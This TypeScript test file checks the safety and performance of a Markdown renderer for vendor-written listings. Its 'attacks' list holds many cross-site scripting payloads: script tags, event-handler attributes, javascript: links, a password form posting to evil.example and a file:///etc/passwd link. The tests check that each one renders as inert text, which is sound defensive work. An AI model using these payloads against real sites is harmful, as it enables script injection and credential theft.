import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { assertCpuTime } from "@ehr-marketplace/test-kit/cpu-time";
import fc from "fast-check";
import { inspectMarkdown, renderMarkdown } from "./markdown.ts";

test("renders CommonMark with tables, below the headings of the page", () => {
  const html = renderMarkdown(
    "# Quill\n\nWrites *notes* and `code`, ~~slowly~~ **fast**.\n\n- one\n- two\n\n###### Small\n\n| a | b |\n|---|---|\n| 1 | 2 |",
  );
  assert.equal(
    html,
    "<h3>Quill</h3>\n<p>Writes <em>notes</em> and <code>code</code>, <s>slowly</s> <strong>fast</strong>.</p>\n" +
      "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<h6>Small</h6>\n" +
      "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n" +
      "<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n",
  );
});

test("links lead to https URLs and mail addresses, and give the vendor no credit", () => {
  assert.equal(
    renderMarkdown("[help](https://quill.example/help) <mailto:a@quill.example>"),
    '<p><a href="https://quill.example/help" rel="nofollow noopener ugc">help</a> ' +
      '<a href="mailto:a@quill.example" rel="nofollow noopener ugc">mailto:a@quill.example</a></p>\n',
  );
});

test("a link shows the host name that it leads to, as it is written", () => {
  const html = renderMarkdown("<https://xn--80ak6aa92e.com/%D0%B0>");
  assert.equal(
    html,
    '<p><a href="https://xn--80ak6aa92e.com/%D0%B0" rel="nofollow noopener ugc">https://xn--80ak6aa92e.com/%D0%B0</a></p>\n',
  );
});

describe("a link that can't be used is shown as it is written, and is noticed", () => {
  const cases: [url: string, ...texts: string[]][] = [
    ["http://a.example", "[a](http://a.example)", "[a](http://a.example 'title')", "<http://a.example>"],
    ["javascript:alert(1)", "[a](javascript:alert(1))", "<javascript:alert(1)>"],
    ["docs/start.md", "[a](docs/start.md)"],
    ["//a.example", "[a](//a.example)"],
    ["https://", "[a](https://)", "<https://>"],
    ["https://user@a.example", "[a](https://user@a.example)", "<https://user@a.example>"],
    ["https://user:pw@a.example/", "[a](https://user:pw@a.example/)"],
    ["https://:pw@a.example/", "[a](https://:pw@a.example/)"],
    ["https://a b.example", "[a](<https://a b.example>)"],
    ["https://a.example:99999", "[a](https://a.example:99999)"],
    [`https://${"a.".repeat(127)}a`, `[a](https://${"a.".repeat(127)}a)`],
    ["mailto:", "[a](mailto:)", "<mailto:>"],
    ["mailto:?cc=a@a.example", "[a](mailto:?cc=a@a.example)"],
    [`https://a.example/${"a".repeat(2_000)}`, `[a](https://a.example/${"a".repeat(2_000)})`],
  ];
  for (const [url, ...texts] of cases) {
    for (const text of texts) {
      test(text.slice(0, 100), () => {
        assert.ok(!renderMarkdown(text).includes("<a "), renderMarkdown(text));
        assert.deepEqual(inspectMarkdown(text).unusableLinks, [url]);
        assert.ok(visibleText(text).includes(url));
      });
    }
  }
  test("[a]()", () => {
    assert.equal(renderMarkdown("[a]()"), "<p><a>a</a></p>\n");
    assert.deepEqual(inspectMarkdown("[a]()").unusableLinks, [""]);
  });
  test("others aren't noticed", () => {
    for (const text of [
      "[a](https://a.example/b?c=d#e) <https://a.example> <a@a.example> <mailto:a@a.example?subject=b>",
      "`[a](http://a.example)` [a] (b) http://a.example \\[a](b)",
    ]) {
      assert.deepEqual(inspectMarkdown(text).unusableLinks, []);
    }
  });
});

test("pictures are noticed, whatever they lead to", () => {
  for (const text of [
    "![a](https://a.example/b.png)",
    "![a](b.png)",
    "![](https://a.example)",
    "[![a](b.png)](https://a.example)",
  ]) {
    assert.ok(inspectMarkdown(text).hasImages, text);
    assert.ok(!renderMarkdown(text).includes("<img"), text);
  }
  for (const text of ["!\\[a](https://a.example)", "`![a](b.png)`", "![a]", "Wow![1]"]) {
    assert.ok(!inspectMarkdown(text).hasImages, text);
  }
});

/** Attacks on pages that show Markdown of others, by what they try. */
const attacks: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="x:gif" onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  "<svg><script>alert&#40;1&#41;</script>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<body onload=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=java&#1;script:alert(1)>x</a>",
  "<details open ontoggle=alert(1)>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<link rel=stylesheet href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example><input name=password></form>",
  "<object data=javascript:alert(1)>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?><script>alert(1)</script>",
  "</p><script>alert(1)</script>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](&#106;avascript:alert(1))",
  "[x](\\javascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](https:evil.example)",
  "[x](https:/\\evil.example)",
  "[x](ht\ttps://evil.example)",
  "[x]()",
  "[x](/practice/other)",
  "[x](http://evil.example)",
  '[x](https://a.example "onmouseover=alert(1) x=\'")',
  '[x](https://a.example"onmouseover="alert(1))',
  '[x](<https://a.example" onmouseover="alert(1)>)',
  "[x]\n\n[x]: javascript:alert(1)",
  "![x](https://evil.example/pixel.gif)",
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](https://evil.example)',
  "<javascript:alert(1)>",
  '<https://a.example/"onclick=alert(1)>',
  "```<script>\nalert(1)\n```",
  '```" onmouseover="alert(1)\nx\n```',
  "`<script>alert(1)</script>`",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
  "<scr<script>ipt>alert(1)</script>",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "# <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  "* <svg onload=alert(1)>",
  "[<img src=x onerror=alert(1)>](https://a.example)",
  "{{constructor.constructor('alert(1)')()}}",
  "\u2028<script>alert(1)</script>\u2029",
  "<\u0000script>alert(1)</script>",
  "x\u202e<script>",
];

const allowedTags = /^<\/?(?:p|em|strong|s|code|pre|ul|ol|li|blockquote|hr|br|h[3-6]|table|thead|tbody|tr|th|td)>$/;
const allowedWithAttributes = [
  /^<a href="(?:https:\/\/|mailto:)[^"<>]*"(?: title="[^"<>]*")? rel="nofollow noopener ugc">$/,
  /^<\/?a>$/,
  /^<ol start="\d+">$/,
  /^<t[hd] style="text-align:(?:left|right|center)">$/,
  /^<code class="language-[^"<>]*">$/,
];

/** Every tag must be one that Markdown makes: what else a vendor wrote is text. */
function findForeignTags(html: string): string[] {
  return (html.match(/<[^>]*>?/g) ?? []).filter(
    (tag) => !allowedTags.test(tag) && !allowedWithAttributes.some((allowed) => allowed.test(tag)),
  );
}

describe("what a vendor writes is data", () => {
  for (const attack of attacks) {
    test(JSON.stringify(attack), () => {
      for (const text of [attack, `Text ${attack} text`, `- a\n\n  ${attack}`, `${attack}\n${attack}`]) {
        assert.deepEqual(findForeignTags(renderMarkdown(text)), [], renderMarkdown(text));
      }
    });
  }

  test("the check itself finds a script", () => {
    assert.deepEqual(findForeignTags("<p>a</p><script>"), ["<script>"]);
    assert.equal(findForeignTags('<a href="javascript:x" rel="nofollow noopener ugc">').length, 1);
  });
});

const visibleText = (text: string): string => inspectMarkdown(text).visibleText;

describe("what a reader sees", () => {
  test("is the text without marks", () => {
    assert.equal(visibleText("# A\n\n*b* [c](https://d.example) `e`\n\n    f"), "A b c e f");
  });
  for (const text of ["", "   ", "***", "[](https://a.example)", "&nbsp;\u200b\u2060", "\u3164", "> ", "- "]) {
    test(`is nothing of ${JSON.stringify(text)}`, () => assert.equal(visibleText(text), ""));
  }
  test("includes HTML, as it is written", () => assert.equal(visibleText("<b>x</b>"), "<b> x </b>"));
});

test("HTML is noticed, and what only looks like it isn't", () => {
  for (const text of ["<b>x</b>", "<div>\n\nx\n</div>", "<!-- x -->", "a <br> b"])
    assert.ok(inspectMarkdown(text).hasHtml, text);
  for (const text of ["a < b > c", "`<b>`", "<https://a.example>", "\\<b>", "&lt;b&gt;"])
    assert.ok(!inspectMarkdown(text).hasHtml, text);
});

describe("what isn't in the profile is shown as it is written, and is noticed", () => {
  const count = (text: string, tag: string): number => renderMarkdown(text).split(`<${tag}>`).length - 1;

  test("definitions of links", () => {
    const text = "[a] [b][a]\n\n[a]: https://a.example 'title'";
    assert.equal(renderMarkdown(text), "<p>[a] [b][a]</p>\n<p>[a]: https://a.example 'title'</p>\n");
    assert.equal(visibleText(text), "[a] [b][a] [a]: https://a.example 'title'");
    assert.ok(inspectMarkdown(text).hasReferences);
    assert.ok(!inspectMarkdown("[a] [b](https://a.example) `[c]: https://a.example`").hasReferences);
  });

  test("table rows after the thousandth cell", () => {
    const rows = (number: number): string => `a|b\n-|-\n${"c|d\n".repeat(number)}`;
    assert.equal(count(rows(499), "td"), 998);
    assert.ok(!inspectMarkdown(`${rows(499)}\nEnd`).isTooComplex);
    assert.equal(count(rows(501), "td"), 998);
    assert.ok(renderMarkdown(rows(501)).endsWith("</table>\n<p>c|d\nc|d</p>\n"));
    assert.ok(inspectMarkdown(rows(501)).isTooComplex);
    assert.equal(count(`${rows(499)}\n${rows(1)}`, "table"), 1);
    assert.ok(inspectMarkdown(`${rows(499)}\n${rows(1)}`).isTooComplex);
    assert.equal(count(rows(1), "td"), 2, "a text doesn't use the limits of another");
  });

  test("lists and quotes after the thousandth, and those within more than nine others", () => {
    assert.equal(count("- a\n+ a\n".repeat(501), "ul"), 1_000);
    assert.ok(inspectMarkdown("- a\n+ a\n".repeat(501)).isTooComplex);
    assert.ok(!inspectMarkdown("- a\n+ a\n".repeat(500)).isTooComplex);
    assert.equal(count(`${">".repeat(10)}a`, "blockquote"), 10);
    assert.ok(renderMarkdown(`${">".repeat(11)}a`).includes("<p>&gt;a</p>"));
    assert.ok(!inspectMarkdown(`${">".repeat(10)}a`).isTooComplex);
    assert.ok(inspectMarkdown(`${">".repeat(11)}a`).isTooComplex);
    assert.ok(renderMarkdown(`${">".repeat(9)}* > + a`).includes("<li>&gt; + a</li>"));
    assert.equal(count(`${">".repeat(10)}${"* + ".repeat(3)}a`, "li"), 5);
    assert.ok(renderMarkdown(`${">".repeat(10)}${"* + ".repeat(3)}a`).includes("<li>+ a</li>"));
    assert.equal(count(`${"* + ".repeat(6)}a`, "li"), 10);
    assert.ok(renderMarkdown(`${"* + ".repeat(6)}a`).includes("<li>* + a</li>"));
  });
});

/** As long as a listing's description may be. */
describe("no text of 20,000 characters takes 75 ms, or becomes much longer", () => {
  const size = 20_000;
  const maxLength = 10 * size + 50_000;
  const fill = (unit: string): string => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
  const units = [
    "[",
    "]",
    "![",
    "[a](",
    "*",
    "_",
    "*a_ ",
    "**a ",
    "`",
    "`a``",
    "~~",
    "~",
    "<",
    "<a ",
    "<!--",
    "&",
    "&#",
    "\\",
    ">",
    "> ",
    ">> a\n",
    "- ",
    "- a\n",
    "1. ",
    "  - a\n",
    "|",
    "|a",
    "| a | b |\n",
    "#",
    "# a\n",
    "\n",
    " ",
    "\t",
    "a\n",
    "<a><",
    "[a]: b\n",
    "[a][",
    "](",
    "<https://",
    "a@b.",
    "***a",
    "_a*b_",
    "[[a]](b)",
    "\u00a0",
    "é",
    "😀",
    "[a](<",
    '[a](b "',
    "`".repeat(30),
    "~~~\n",
    "```\n",
    "<div>\n",
    "<?",
    "<![CDATA[",
    '"',
    "&ab",
    "\\\n",
    "#\n",
    "-\n+\n",
    ">\n-\n",
    "0.\n0)\n",
    '\t"\n#\n',
    '`"`',
    '*"*',
    "```a\n```\n",
    "[](mailto:a@b)",
    "<mailto:a@b>",
    `<https://${"㍿.".repeat(14)}a>`,
    "a|\n:-:|\n",
    "a|\n:-:|\n\n",
    `${">".repeat(99)}\n\n`,
    `${"* + ".repeat(24)}\n\n`,
    `${"> - ".repeat(33)}\n\n`,
  ];
  const texts = units.map((unit): [string, string] => [JSON.stringify(unit), fill(unit)]);
  const half = size / 2;
  const shaped: [string, string][] = [
    ["nested emphasis", `${"*".repeat(half)}a${"*".repeat(half - 1)}`],
    ["nested brackets", `${"[".repeat(half)}a${"]".repeat(half - 1)}`],
    ["nested quotes", `${">".repeat(half)}${"a".repeat(half)}`],
    [
      "nested lists",
      Array.from({ length: 300 }, (_, depth) => `${" ".repeat(depth)}- a`)
        .join("\n")
        .slice(0, size),
    ],
    [
      "backticks of every length",
      Array.from({ length: 310 }, (_, length) => "`".repeat(length))
        .join(" ")
        .slice(0, size),
    ],
    ["a table of many columns", `${"|a".repeat(half / 4)}|\n${"|-".repeat(half / 4)}|\n${"|b".repeat(half / 4)}`],
    ...[1, 20, 200, 1_000].map((columns): [string, string] => [
      `a table of ${columns} columns with empty rows`,
      `${"|a".repeat(columns)}|\n${"|:-:".repeat(columns)}|\n${"|\n".repeat(half)}`.slice(0, size),
    ]),
    ...["&", "!", "*", "<"].map((character): [string, string] => [
      `brackets and ${character}`,
      `${"[".repeat(200)}${character.repeat(size - 200)}`,
    ]),
    ["nested pictures", `${"![".repeat(half / 3)}a${"](b)".repeat(half / 3)}`.slice(0, size)],
    ["groups of nested pictures", fill(`${"![".repeat(24)}a${"](b)".repeat(24)}`)],
    ["nested quotes with lazy lines", `${">".repeat(99)}${"a\n".repeat(half)}`.slice(0, size)],
    [
      "lists within quotes with lazy lines",
      `${">".repeat(10)}${"* + ".repeat(24)}${"a\n".repeat(half)}`.slice(0, size),
    ],
    ["nested lists with lazy lines", `${"* + ".repeat(24)}${"a\n".repeat(half)}`.slice(0, size)],
    ["nested quotes and lists with lazy lines", `${"> - ".repeat(33)}${"a\n".repeat(half)}`.slice(0, size)],
    ["a long title, used often", `[a]: https://x '${'"'.repeat(half - 30)}'\n\n${"[a]".repeat(half / 3)}`],
    ["a long URL, used often", `[a]: https://x/${"a".repeat(half - 30)}\n\n${"[a]".repeat(half / 3)}`],
    ["a long title", `[a](https://x '${'"'.repeat(size - 20)}')`],
    ["URLs that are encoded", fill(`<https://a.example/${"€".repeat(1_900)}>`)],
    ["URLs that are escaped", fill(`<https://a.example/${"&".repeat(1_900)}>`)],
    ...[253, 1_900].map((length): [string, string] => [
      `host names of ${length} characters`,
      fill(`[a](https://${Array.from({ length }, (_, n) => String.fromCharCode(0x4e00 + n)).join("")})`),
    ]),
    [
      "definitions that refer to each other",
      Array.from({ length: 2_500 }, (_, n) => `[${n}]: /${n} [${n}]`)
        .join("\n")
        .slice(0, size),
    ],
  ];
  for (const [what, text] of [...texts, ...shaped]) {
    test(what, () => {
      const { length } = renderMarkdown(text);
      assert.ok(length <= maxLength, `${length} characters`);
      for (const work of [renderMarkdown, inspectMarkdown]) assertCpuTime(75, () => work(text), work.name);
    });
  }

  test("nor do combinations of them become longer", () => {
    const combinations = fc.array(fc.constantFrom(...units), { minLength: 2, maxLength: 6 });
    fc.assert(
      fc.property(combinations, (combined) => {
        const { length } = renderMarkdown(fill(combined.join("")));
        assert.ok(length <= maxLength, `${length} characters`);
      }),
      { numRuns: 50 },
    );
  });
});
